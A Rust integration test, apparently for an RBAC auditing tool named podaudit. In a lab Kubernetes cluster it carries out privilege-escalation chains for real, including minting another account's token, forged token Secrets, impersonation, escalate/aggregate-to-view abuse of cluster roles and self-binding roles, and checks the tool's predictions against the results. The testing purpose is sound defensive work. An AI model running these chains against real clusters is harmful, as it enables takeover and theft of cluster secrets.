//! Whole paths performed for real: each step with the credential that the step before it brought,
//! up to the Secrets of kube-system. The same attempt fails where podaudit knows no path.

use anyhow::{Context, bail};
use http::Method;
use k8s_openapi::ByteString;
use serde_json::{Value, json};

use super::rbac_sar::RBAC;
use crate::support::api::{Api, wait_for};
use crate::support::lab::ControlPlane;
use crate::support::program::Program;
use crate::support::{Outcome, ensure, kubeconfig};

const HOME: &str = "chains";
const GROUP: &str = "rbac.authorization.k8s.io";
const GOAL: &str = "/api/v1/namespaces/kube-system/secrets";

/// What the last step of a chain does, with the token of the first ServiceAccount.
type Attempt = fn(&Chain) -> Outcome;
/// Verbs, API group, resources, names; `|` separates.
type Rule = (&'static str, &'static str, &'static str, &'static str);

/// Name of the first ServiceAccount, whether its rights hold in the whole cluster, the rights, the
/// attempt, and whether it works.
struct Row(&'static str, bool, &'static [Rule], Attempt, bool);

const WRITE: Rule = ("create|patch|get", GROUP, "roles", "");

#[rustfmt::skip]
const ROWS: &[Row] = &[
    Row("minter", false, &[("create", "", "serviceaccounts/token", "operator")], mint, true),
    Row("minter-of-other", false, &[("create", "", "serviceaccounts/token", "other")], mint, false),
    Row("builder", false, &[("create", "", "pods", "")], build, true),
    Row("builder-of-one", false, &[("create", "", "pods", "chain")], build, false),
    Row("applier", false, &[("create", "", "pods", "chain-applied"), ("patch", "", "pods", "chain-applied")], apply, true),
    Row("forger", false, &[("create|get", "", "secrets", "")], forge, true),
    Row("forger-blind", false, &[("create", "", "secrets", "")], forge, false),
    Row("mask", false, &[("impersonate", "", "serviceaccounts", "operator")], impersonate, true),
    Row("mask-of-users", false, &[("impersonate", "", "users", "")], impersonate, false),
    Row("writer", true, &[("patch|escalate", GROUP, "clusterroles", "chains-writer")], escalate, true),
    Row("writer-checked", true, &[("patch", GROUP, "clusterroles", "chains-writer-checked")], escalate, false),
    Row("labeller", true, &[("create|escalate", GROUP, "clusterroles", "")], label, true),
    Row("labeller-checked", true, &[("create", GROUP, "clusterroles", "")], label, false),
    Row("founder", false, &[WRITE, ("escalate", GROUP, "roles", ""), ("create", GROUP, "rolebindings", "")], found, true),
    Row("founder-checked", false, &[WRITE, ("create", GROUP, "rolebindings", "")], found, false),
];

/// One chain as it is performed.
struct Chain<'a> {
    cluster: &'a ControlPlane,
    name: &'static str,
    own: Api,
}

pub(super) fn performed(cluster: &ControlPlane) -> Outcome {
    let api = cluster.api();
    api.namespace(HOME)?;
    for account in ["operator", "other"] {
        api.service_account(HOME, account, None)?;
    }
    bind(
        api,
        "operator",
        true,
        &[
            ("create", GROUP, "clusterrolebindings", ""),
            ("bind", GROUP, "clusterroles", "cluster-admin"),
        ],
    )?;
    for row in ROWS {
        api.service_account(HOME, row.0, None)?;
        bind(api, row.0, row.1, row.2)?;
    }
    for name in ["labeller", "labeller-checked"] {
        let view = json!({
            "metadata": {"name": format!("chains-{name}-view")},
            "roleRef": {"apiGroup": GROUP, "kind": "ClusterRole", "name": "view"},
            "subjects": [{"kind": "ServiceAccount", "namespace": HOME, "name": name}],
        });
        api.post(&format!("{RBAC}/clusterrolebindings"), &view)?;
    }
    // Before anything is attempted: what is gained changes who may do what.
    let reported: Vec<bool> =
        ROWS.iter().map(|row| has_path(cluster, row.0)).collect::<anyhow::Result<_>>()?;
    let mut wrong = Vec::new();
    for (Row(name, _, _, attempt, works), reported) in ROWS.iter().zip(reported) {
        let done =
            attempt(&Chain { cluster, name, own: connect(cluster, &api.token(HOME, name)?)? });
        if done.is_ok() != *works || reported != *works {
            wrong.push(format!("{name}: podaudit says {reported}, done {done:?}"));
        }
    }
    ensure!(wrong.is_empty(), "{}", wrong.join("\n"));
    Ok(())
}

/// Whether podaudit knows a certain way from the ServiceAccount to everything.
fn has_path(cluster: &ControlPlane, account: &str) -> anyhow::Result<bool> {
    let run =
        Program::new(["paths", "--from", &format!("{HOME}/{account}"), "--to", "cluster-admin"])?
            .arg("-ojson")
            .env("KUBECONFIG", cluster.kubeconfig())
            .run()?;
    let report = run.report(0)?.0;
    let paths = report["exposed"][0]["paths"].as_array().context("no paths")?.clone();
    Ok(paths.iter().any(|path| path["certainty"] == "certain"))
}

fn connect(cluster: &ControlPlane, token: &str) -> anyhow::Result<Api> {
    Api::connect(kubeconfig::with_token(&cluster.kubeconfig(), token)?.path())
}

fn bind(api: &Api, account: &str, in_cluster: bool, rules: &[Rule]) -> Outcome {
    let list = |text: &str| -> Vec<String> {
        text.split('|').map(str::to_owned).filter(|part| !part.is_empty()).collect()
    };
    let rules = rules.iter().map(|(verbs, group, resources, names)| {
        json!({"verbs": list(verbs), "apiGroups": [group], "resources": list(resources),
               "resourceNames": list(names)})
    });
    let name = format!("chains-{account}");
    let role = json!({"metadata": {"name": name}, "rules": rules.collect::<Vec<_>>()});
    api.post(&format!("{RBAC}/clusterroles"), &role)?;
    let binding = json!({
        "metadata": {"name": name},
        "roleRef": {"apiGroup": GROUP, "kind": "ClusterRole", "name": name},
        "subjects": [{"kind": "ServiceAccount", "namespace": HOME, "name": account}],
    });
    let place = if in_cluster { String::new() } else { format!("/namespaces/{HOME}") };
    let kind = if in_cluster { "clusterrolebindings" } else { "rolebindings" };
    api.post(&format!("{RBAC}{place}/{kind}"), &binding).map(drop)
}

/// A binding to cluster-admin by whoever has the operator's credential, and what comes of it.
fn take_over(chain: &Chain, api: &Api, headers: &[(&str, &str)]) -> Outcome {
    let binding = json!({
        "metadata": {"name": format!("chains-{}-taken", chain.name)},
        "roleRef": {"apiGroup": GROUP, "kind": "ClusterRole", "name": "cluster-admin"},
        "subjects": [{"kind": "ServiceAccount", "namespace": HOME, "name": "operator"}],
    });
    let path = format!("{RBAC}/clusterrolebindings");
    api.send_with(&Method::POST, &path, &binding, headers)?;
    reads(|| api.send_with(&Method::GET, GOAL, &Value::Null, headers))?;
    // The next chain begins without it.
    chain.cluster.api().delete(&format!("{path}/chains-{}-taken", chain.name)).map(drop)
}

/// The authorizer hears of new bindings a little later.
fn reads(attempt: impl Fn() -> anyhow::Result<Value>) -> Outcome {
    wait_for("the goal", || Ok(attempt().ok())).map(drop)
}

fn mint(chain: &Chain) -> Outcome {
    take_over(chain, &connect(chain.cluster, &chain.own.token(HOME, "operator")?)?, &[])
}

/// The token that a kubelet would mount into the pod: it is bound to it.
fn in_pod(chain: &Chain, pod: &Value) -> Outcome {
    let path = format!("/api/v1/namespaces/{HOME}/serviceaccounts/operator/token");
    let object = json!({"apiVersion": "v1", "kind": "Pod", "name": pod["metadata"]["name"], "uid": pod["metadata"]["uid"]});
    let bound = json!({"spec": {"boundObjectRef": object}});
    let token = chain.cluster.api().post(&path, &bound)?;
    let token = token["status"]["token"].as_str().context("no token")?;
    take_over(chain, &connect(chain.cluster, token)?, &[])
}

fn build(chain: &Chain) -> Outcome {
    let spec =
        json!({"serviceAccountName": "operator", "containers": [{"name": "c", "image": "i"}]});
    let pod = chain.own.pod(HOME, "chain", &spec)?;
    in_pod(chain, &pod)
}

fn apply(chain: &Chain) -> Outcome {
    let pod = json!({
        "apiVersion": "v1", "kind": "Pod", "metadata": {"name": "chain-applied"},
        "spec": {"serviceAccountName": "operator", "containers": [{"name": "c", "image": "i"}]},
    });
    let path = format!("/api/v1/namespaces/{HOME}/pods/chain-applied?fieldManager=chain");
    let pod = chain.own.patch(&path, &pod)?;
    in_pod(chain, &pod)
}

fn forge(chain: &Chain) -> Outcome {
    let name = format!("chain-{}", chain.name);
    let secret = json!({
        "metadata": {"name": name, "annotations": {"kubernetes.io/service-account.name": "operator"}},
        "type": "kubernetes.io/service-account-token",
    });
    let path = format!("/api/v1/namespaces/{HOME}/secrets");
    chain.own.post(&path, &secret)?;
    let path = format!("{path}/{name}");
    chain.own.get(&path)?;
    // The controller fills in the token, and the API server looks it up in a cache that may lag:
    // until then, or if it was written anew, it is nobody's.
    let gained = wait_for("a token that the API server knows", || {
        let token = chain.own.get(&path)?["data"]["token"].clone();
        let Ok(ByteString(token)) = serde_json::from_value(token) else { return Ok(None) };
        let gained = connect(chain.cluster, std::str::from_utf8(&token)?)?;
        Ok(gained.get("/api").is_ok().then_some(gained))
    })?;
    take_over(chain, &gained, &[])
}

fn impersonate(chain: &Chain) -> Outcome {
    let user = format!("system:serviceaccount:{HOME}:operator");
    take_over(chain, &chain.own, &[("Impersonate-User", &user)])
}

const ALL: [(&str, &str, &str); 1] = [("*", "*", "*")];

fn everything() -> Value {
    let rules = ALL.map(|(verb, group, resource)| {
        json!({"verbs": [verb], "apiGroups": [group], "resources": [resource]})
    });
    json!(rules)
}

fn escalate(chain: &Chain) -> Outcome {
    let path = format!("{RBAC}/clusterroles/chains-{}", chain.name);
    chain.own.patch(&path, &json!({"rules": everything()}))?;
    reads(|| chain.own.get(GOAL))
}

fn label(chain: &Chain) -> Outcome {
    let role = json!({
        "metadata": {
            "name": format!("chains-{}-more", chain.name),
            "labels": {"rbac.authorization.k8s.io/aggregate-to-view": "true"},
        },
        "rules": everything(),
    });
    chain.own.post(&format!("{RBAC}/clusterroles"), &role)?;
    reads(|| chain.own.get(GOAL))?;
    let path = format!("{RBAC}/clusterroles/chains-{}-more", chain.name);
    chain.cluster.api().delete(&path)?;
    wait_for("the sum without it", || Ok(chain.own.get(GOAL).err()))?;
    Ok(())
}

/// All of a namespace, and with it the operator.
fn found(chain: &Chain) -> Outcome {
    let place = format!("{RBAC}/namespaces/{HOME}");
    let name = format!("chain-{}", chain.name);
    chain.own.post(&format!("{place}/roles"), &json!({"metadata": {"name": name}, "rules": []}))?;
    let binding = json!({
        "metadata": {"name": name},
        "roleRef": {"apiGroup": GROUP, "kind": "Role", "name": name},
        "subjects": [{"kind": "ServiceAccount", "namespace": HOME, "name": chain.name}],
    });
    chain.own.post(&format!("{place}/rolebindings"), &binding)?;
    chain.own.patch(&format!("{place}/roles/{name}"), &json!({"rules": everything()}))?;
    let token = wait_for("the rights", || Ok(chain.own.token(HOME, "operator").ok()))?;
    if token.is_empty() {
        bail!("no token");
    }
    take_over(chain, &connect(chain.cluster, &token)?, &[])
}
